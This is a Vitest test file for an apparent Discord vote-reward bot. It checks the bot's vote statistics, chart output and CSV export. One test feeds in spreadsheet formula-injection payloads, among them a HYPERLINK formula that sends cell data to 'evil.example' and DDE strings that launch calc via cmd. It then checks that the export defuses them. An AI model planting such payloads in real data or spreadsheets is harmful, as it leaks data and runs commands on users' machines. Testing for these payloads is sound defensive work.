import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { crc32, inflateSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commands } from '../commands/index.js';
import { chartFileName } from '../commands/stats.js';
import { chartSize } from '../src/charts/vote-trends-chart.js';
import { runCli } from '../src/cli.js';
import { createDb } from '../src/db/client.js';
import { exportVotesCsv } from '../src/db/vote-export.js';
import { getVoteTrends } from '../src/db/vote-trends.js';
import type { EffectStatus, RewardEffectKind } from '../src/domain/effects.js';
import { eventually, snowflake, startTestBot, type TestBot, votePayload } from './support/bot.js';
import { replyText, sendSlashCommand, subcommand } from './support/interactions.js';

/**
 * /votes stats and /setup export against hand-computed numbers. The
 * commands' clock is pinned to Monday 2026-11-23 15:00 UTC, so "7d" is
 * Tue 17 Nov 00:00 UTC up to the end of today, compared with Tue 10 Nov
 * 00:00 up to Mon 16 Nov 15:00 (the same time of day).
 */
const now = new Date('2026-11-23T15:00:00.000Z');
let bot: TestBot;
const guildId = snowflake();
const emptyGuildId = snowflake();
const otherGuildId = snowflake();
const channelId = snowflake();
const emptyChannelId = snowflake();
const adminId = snowflake();
const a = snowflake();
const b = snowflake();
const c = snowflake();
const d = snowflake();
const e = snowflake();
const tricky = 'Captcha failed, "bot" suspected\nsecond line';

type Seed = { userId: string; at: string; credits?: boolean; adBlocker?: boolean; reason?: string };
const seeded: Seed[] = [
  { userId: a, at: '2026-10-01T12:00:00.000Z' }, // long ago: a returns in the period
  { userId: b, at: '2026-11-12T08:00:00.000Z' }, // previous period
  { userId: c, at: '2026-11-16T14:59:59.999Z' }, // previous period, its last millisecond
  { userId: c, at: '2026-11-16T15:00:00.000Z' }, // after the same time of day: neither period
  { userId: d, at: '2026-11-16T23:59:59.999Z' }, // a millisecond before the period: d returns
  { userId: d, at: '2026-11-17T00:00:00.000Z' }, // the period's first millisecond
  { userId: a, at: '2026-11-18T10:15:00.000Z' },
  // 22:30 in New York on the 18th is 03:30 UTC on the 19th.
  { userId: a, at: '2026-11-18T22:30:00.000-05:00', adBlocker: true },
  { userId: e, at: '2026-11-19T03:45:00.000Z', credits: false, reason: tricky },
  { userId: b, at: '2026-11-20T03:10:00.000Z' },
  { userId: e, at: '2026-11-23T14:00:00.000Z', credits: false, adBlocker: true },
];

const inLast7Days = [
  '2026-11-17T00:00:00.000Z',
  '2026-11-18T10:15:00.000Z',
  '2026-11-19T03:30:00.000Z',
  '2026-11-19T03:45:00.000Z',
  '2026-11-20T03:10:00.000Z',
  '2026-11-23T14:00:00.000Z',
];

beforeAll(async () => {
  bot = await startTestBot({
    start: { now: () => now },
    guilds: [
      { id: guildId, members: [adminId], channels: [channelId] },
      { id: emptyGuildId, members: [adminId], channels: [emptyChannelId] },
    ],
  });
  await new Promise<void>((resolve) => {
    const poll = () =>
      bot.discord?.client.guilds.cache.has(guildId) && bot.discord.client.guilds.cache.has(emptyGuildId)
        ? resolve()
        : setTimeout(poll, 20);
    poll();
  });
  // Through the real webhook and reward job, which keeps each member's first
  // vote: 25 coins a vote, half with an ad blocker, nothing when denied.
  // Out of order, as redeliveries arrive: a's oldest vote first and the rest
  // newest first, so neither "first planned" nor "last planned" would be
  // each member's first vote.
  await bot.db.guildConfig.create({ data: { guildId, currencyAmount: 25, dmEnabled: false } });
  for (const s of [seeded[0] as Seed, ...seeded.slice(1).reverse()]) {
    const res = await bot.post(
      '/webhook/votes',
      votePayload({
        userId: s.userId,
        serverId: guildId,
        timestamp: s.at,
        creditsAwarded: s.credits ?? true,
        adBlocker: s.adBlocker ?? false,
        creditDenialReason: s.reason ?? null,
      }),
    );
    expect(res.status).toBe(200);
  }
  await eventually(
    async () => (await bot.db.vote.count({ where: { guildId, plannedAt: { not: null } } })) === seeded.length,
  );
  // Another guild's votes never count.
  await plannedVotes(otherGuildId, [{ userId: a, at: '2026-11-20T03:00:00.000Z' }]);
});

/**
 * Votes through the webhook for a guild the bot is in (the reward job sets
 * others aside), once the reward job has planned them (stats count planned votes).
 */
async function plannedVotes(guild: string, votes: Array<{ userId: string; at: string }>): Promise<void> {
  bot.fake.addGuild({ id: guild });
  for (const v of votes) {
    const res = await bot.post(
      '/webhook/votes',
      votePayload({ userId: v.userId, serverId: guild, timestamp: v.at }),
    );
    expect(res.status).toBe(200);
  }
  await eventually(
    async () =>
      (await bot.db.vote.count({ where: { guildId: guild, plannedAt: { not: null } } })) === votes.length,
  );
}
afterAll(async () => {
  await bot?.close();
});

const stats = (options: Parameters<typeof subcommand>[1], guild = guildId, channel = channelId) =>
  sendSlashCommand(bot.fake, {
    name: 'votes',
    options: subcommand('stats', options),
    guildId: guild,
    channelId: channel,
    userId: adminId,
  });

describe('/votes stats', () => {
  it('shows the hand-computed numbers for the last 7 days, with the chart attached', async () => {
    const { data, request } = await stats([{ type: 3, name: 'period', value: '7d' }]);
    const text = replyText(data);
    expect(data.flags ?? 0).toBe(0); // in the channel by default
    expect(text).toContain('Vote trends in the last 7 days');
    expect(text).toContain('Total votes: 6 (3 credited · 2 ad blocker · 1 denied)');
    expect(text).toContain('Unique voters: 4');
    expect(text).toContain('New / returning voters: 1 new · 3 returning');
    expect(text).toContain('Busiest hour (UTC): 03:00–04:00 (3 votes)');
    expect(text).toContain('Ad-blocker share: 33.3%');
    expect(text).toContain('Change: +200% against the previous 7 days, up to the same time (2 → 6)');
    expect(data.embeds?.[0]?.image?.url).toBe(`attachment://${chartFileName}`);
    expect(request.uploads?.map((u) => u.filename)).toEqual([chartFileName]);
  });

  it('attaches a valid PNG of the chart size', async () => {
    const { request } = await stats([{ type: 3, name: 'period', value: '30d' }]);
    const png = request.uploads?.[0]?.data as Buffer;
    expect(decodePng(png)).toMatchObject({ width: chartSize.width, height: chartSize.height });
  });

  it('counts all time from the first vote, every voter new, with nothing to compare', async () => {
    const { data } = await stats([
      { type: 3, name: 'period', value: 'all' },
      { type: 5, name: 'private', value: true },
    ]);
    const text = replyText(data);
    expect(data.flags).toBe(64);
    expect(text).toContain('Total votes: 11 (8 credited · 2 ad blocker · 1 denied)');
    expect(text).toContain('New / returning voters: 5 new · 0 returning');
    expect(text).toContain('Change: None: all time has no previous period');
  });

  it('buckets by UTC day and cuts periods at UTC midnight whatever the database session time zone', async () => {
    // A session 14 hours ahead of UTC: date_trunc on timestamptz would cut days at its midnight.
    const url = new URL(bot.databaseUrl);
    url.searchParams.set('options', '-c timezone=Pacific/Kiritimati');
    const db = createDb(url.toString(), { poolSize: 2 });
    try {
      const trends = await getVoteTrends(db, guildId, '7d', now);
      expect(
        trends.buckets.map((x) => [x.start.toISOString().slice(0, 10), x.credited, x.adBlocker, x.denied]),
      ).toEqual([
        ['2026-11-17', 1, 0, 0],
        ['2026-11-18', 1, 0, 0],
        ['2026-11-19', 0, 1, 1],
        ['2026-11-20', 1, 0, 0],
        ['2026-11-21', 0, 0, 0],
        ['2026-11-22', 0, 0, 0],
        ['2026-11-23', 0, 1, 0],
      ]);
      expect(trends.busiestHour).toEqual({ hour: 3, votes: 3 });
      expect(trends.previousTotal).toBe(2);
      // Half past: the previous period ends mid-hour, so 16 Nov 15:00 counts, 15:30 would not.
      const halfPast = await getVoteTrends(db, guildId, '7d', new Date('2026-11-23T15:30:00.000Z'));
      expect(halfPast.previousTotal).toBe(3);
      const justBefore = await getVoteTrends(db, guildId, '7d', new Date('2026-11-23T15:00:00.001Z'));
      expect(justBefore.previousTotal).toBe(3);
      const allTime = await getVoteTrends(db, guildId, 'all', now);
      expect(allTime.buckets[0]?.start.toISOString()).toBe('2026-10-01T00:00:00.000Z');
      expect(allTime.buckets).toHaveLength(54); // 1 Oct to 23 Nov
      let csv = '';
      await exportVotesCsv(db, { guildId, period: '7d', now }, (chunk) => {
        csv += chunk;
        return true;
      });
      expect((parse(csv, { columns: true }) as Array<{ voted_at: string }>).map((r) => r.voted_at)).toEqual(
        inLast7Days,
      );
    } finally {
      await db.$disconnect();
    }
  });

  it('shows weeks (from Monday, UTC) for an all-time period longer than four months', async () => {
    const longGuild = snowflake();
    const at = (iso: string) => ({ userId: a, at: iso });
    await plannedVotes(longGuild, [
      at('2026-01-07T12:00:00.000Z'), // a Wednesday: its week starts Monday 5 January
      at('2026-01-11T23:59:59.999Z'), // Sunday, the same week
      at('2026-01-12T00:00:00.000Z'), // Monday: the next week
      at('2026-11-23T14:00:00.000Z'),
    ]);
    const trends = await getVoteTrends(bot.db, longGuild, 'all', now);
    expect(trends.unit).toBe('week');
    expect(trends.buckets).toHaveLength(47); // 5 Jan to 23 Nov: 46 weeks later
    expect(trends.buckets.slice(0, 2).map((x) => [x.start.toISOString(), x.credited])).toEqual([
      ['2026-01-05T00:00:00.000Z', 2],
      ['2026-01-12T00:00:00.000Z', 1],
    ]);
    expect(trends.buckets.at(-1)).toMatchObject({ start: new Date('2026-11-23T00:00:00.000Z'), credited: 1 });
    expect(trends.total).toBe(4);
  });

  it('counts the voters of a period by their latest vote, and by a vote in it when the latest is later', async () => {
    // The voters come from the members' latest planned votes; a latest vote
    // after the period (a sender's clock ahead) needs the votes themselves.
    const guild = snowflake();
    const [inAndAfter, onlyBefore, onlyAfter, onlyIn] = [snowflake(), snowflake(), snowflake(), snowflake()];
    await plannedVotes(guild, [
      { userId: inAndAfter, at: '2026-11-20T05:00:00.000Z' },
      { userId: inAndAfter, at: '2026-11-25T01:00:00.000Z' },
      { userId: onlyBefore, at: '2026-11-10T09:00:00.000Z' },
      { userId: onlyAfter, at: '2026-11-25T02:00:00.000Z' },
      { userId: onlyIn, at: '2026-11-17T00:00:00.000Z' },
    ]);
    const week = await getVoteTrends(bot.db, guild, '7d', now);
    expect(week.uniqueVoters).toBe(2);
    expect(week.newVoters).toBe(2);
    expect(week.returningVoters).toBe(0);
    const month = await getVoteTrends(bot.db, guild, '30d', now);
    expect(month.uniqueVoters).toBe(3);
  });

  it('answers a guild without votes with a friendly line instead of an empty chart', async () => {
    const { data, request } = await stats([], emptyGuildId, emptyChannelId);
    expect(data.content).toContain('No votes for this server in the last 30 days');
    expect(data.embeds ?? []).toEqual([]);
    expect(request.uploads ?? []).toEqual([]);
  });
});

describe('/setup export', () => {
  const exportCsv = async (period?: string) => {
    const { data, request } = await sendSlashCommand(bot.fake, {
      name: 'setup',
      options: subcommand('export', period ? [{ type: 3, name: 'period', value: period }] : []),
      guildId,
      channelId,
      userId: adminId,
    });
    const file = request.uploads?.[0];
    return { data, file, rows: parse(file?.data ?? '', { columns: true }) as Record<string, string>[] };
  };

  it('attaches the votes as CSV that parses back to the same rows, rewards from the ledger', async () => {
    // A denied vote earned nothing; give it ledger rows of every status to see which count.
    const vote = await bot.db.vote.findFirstOrThrow({
      where: { guildId, userId: e, votedAt: new Date('2026-11-19T03:45:00Z') },
    });
    const effect = (kind: RewardEffectKind, status: EffectStatus, amount: number | null = null) => ({
      voteId: vote.id,
      guildId,
      userId: e,
      kind,
      status,
      amount,
    });
    await bot.db.rewardEffect.createMany({
      data: [
        effect('dm', 'failed'), // not granted
        effect('milestone', 'done', 100),
        effect('role', 'done'),
        effect('reminder', 'done'), // not a reward
      ],
    });
    const { data, file, rows } = await exportCsv();
    expect(data.flags).toBe(64);
    expect(data.content).toContain('11 votes of all time');
    expect(file?.filename).toBe(`votes-${guildId}-all-2026-11-23.csv`);
    const expected = [...seeded]
      .sort((x, y) => new Date(x.at).getTime() - new Date(y.at).getTime())
      .map((s) => ({
        user_id: s.userId,
        voted_at: new Date(s.at).toISOString(),
        credited: String(s.credits ?? true),
        ad_blocker: String(s.adBlocker ?? false),
        denial_reason: s.reason ?? '',
        rewards_granted:
          s.reason === tricky
            ? 'role;milestone:100'
            : s.adBlocker
              ? 'currency:12'
              : (s.credits ?? true)
                ? 'currency:25'
                : '',
      }));
    expect(rows).toEqual(expected);
    // The quotes and the comma are escaped, not lost.
    expect(file?.data.toString()).toContain('"Captcha failed, ""bot"" suspected\nsecond line"');
  });

  it('exports only the chosen period', async () => {
    const { rows } = await exportCsv('7d');
    expect(rows.map((r) => r.voted_at)).toEqual(inLast7Days);
  });

  it('writes the same CSV from the command-line tool', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'rankly-export-'));
    try {
      const out = join(dir, 'votes.csv');
      const cli = (...args: string[]) =>
        promisify(execFile)(process.execPath, ['--import', 'tsx', 'src/cli.ts', ...args], {
          env: { ...process.env, DATABASE_URL: bot.databaseUrl, LOG_LEVEL: 'warn' },
        });
      const { stdout } = await cli('export', 'votes', '--guild', guildId, '--period', 'all', '--out', out);
      expect(stdout).toContain(`11 votes written to ${out}`);
      const { file } = await exportCsv('all');
      expect(await readFile(out, 'utf8')).toBe(file?.data.toString());
      await expect(cli('export', 'votes', '--guild', 'not-a-guild')).rejects.toMatchObject({ code: 2 });
      await expect(cli('export', 'votes', '--guild', guildId, '--period', '1y')).rejects.toMatchObject({
        code: 2,
      });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 120_000); // three CLI processes, each compiling TypeScript at start
});

describe('exports and spreadsheets', () => {
  it('neutralises formulas in /setup export and the CLI export alike: a leading apostrophe', async () => {
    const formulaGuild = snowflake();
    const formulaChannel = snowflake();
    bot.fake.addGuild({ id: formulaGuild, members: [adminId], channels: [formulaChannel] });
    await eventually(() => bot.discord?.client.guilds.cache.has(formulaGuild));
    const reasons = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
      'Already voted recently',
      'a = b - c',
    ];
    for (const [i, reason] of reasons.entries()) {
      const response = await bot.post(
        '/webhook/votes',
        votePayload({
          userId: snowflake(),
          serverId: formulaGuild,
          timestamp: new Date(Date.parse('2026-11-20T00:00:00.000Z') + i * 60_000).toISOString(),
          creditsAwarded: false,
          creditDenialReason: reason,
        }),
      );
      expect(response.status).toBe(200);
    }
    const expected = reasons.map((r) => (/^[=+\-@\t\r]/.test(r) ? `'${r}` : r));
    const { request } = await sendSlashCommand(bot.fake, {
      name: 'setup',
      options: subcommand('export'),
      guildId: formulaGuild,
      channelId: formulaChannel,
      userId: adminId,
    });
    const attached = request.uploads?.[0]?.data.toString() ?? '';
    const rows = parse(attached, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.denial_reason)).toEqual(expected);
    // No cell of the file begins with a formula character.
    const cells = (parse(attached) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    let cliOut = '';
    const code = await runCli(['export', 'votes', '--guild', formulaGuild], {
      env: { DATABASE_URL: bot.databaseUrl },
      out: (t) => {
        cliOut += t;
      },
      err: () => {},
    });
    expect(code).toBe(0);
    expect(cliOut).toBe(attached);
  });
});

describe('command definitions', () => {
  it('has /votes stats and /setup export as subcommands with their options under them', () => {
    const def = (name: string) => commands.find((x) => x.definition.name === name)?.definition;
    const statsSub = def('votes')?.options?.find((o) => o.name === 'stats') as {
      type: number;
      options: Array<{ name: string; choices?: Array<{ value: string }> }>;
    };
    expect(statsSub.type).toBe(1);
    expect(statsSub.options.map((o) => o.name)).toEqual(['period', 'private']);
    expect(statsSub.options[0]?.choices?.map((ch) => ch.value)).toEqual(['7d', '30d', '90d', 'all']);
    const exportSub = def('setup')?.options?.find((o) => o.name === 'export') as { type: number };
    expect(exportSub.type).toBe(1);
    // Subcommands (1) and subcommand groups (2, /setup tier and /setup shop) only: no loose options.
    for (const name of ['votes', 'setup'])
      expect(def(name)?.options?.every((o) => o.type === 1 || o.type === 2)).toBe(true);
  });
});

/** Checks a PNG's structure (signature, chunk CRCs, IHDR, IEND) and inflates its pixels; returns its size. */
function decodePng(png: Buffer): { width: number; height: number } {
  expect(png.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  let offset = 8;
  const idat: Buffer[] = [];
  let header: { width: number; height: number; bitDepth: number; colorType: number } | undefined;
  let ended = false;
  while (offset < png.length) {
    const length = png.readUInt32BE(offset);
    const type = png.toString('latin1', offset + 4, offset + 8);
    const data = png.subarray(offset + 8, offset + 8 + length);
    expect(png.readUInt32BE(offset + 8 + length)).toBe(crc32(png.subarray(offset + 4, offset + 8 + length)));
    if (type === 'IHDR')
      header = {
        width: data.readUInt32BE(0),
        height: data.readUInt32BE(4),
        bitDepth: data[8] as number,
        colorType: data[9] as number,
      };
    if (type === 'IDAT') idat.push(data);
    if (type === 'IEND') ended = true;
    offset += 12 + length;
  }
  expect(ended).toBe(true);
  if (!header) throw new Error('no IHDR');
  // 8-bit RGBA: one filter byte and 4 bytes per pixel per row.
  expect(header).toMatchObject({ bitDepth: 8, colorType: 6 });
  expect(inflateSync(Buffer.concat(idat)).length).toBe(header.height * (1 + header.width * 4));
  return { width: header.width, height: header.height };
}
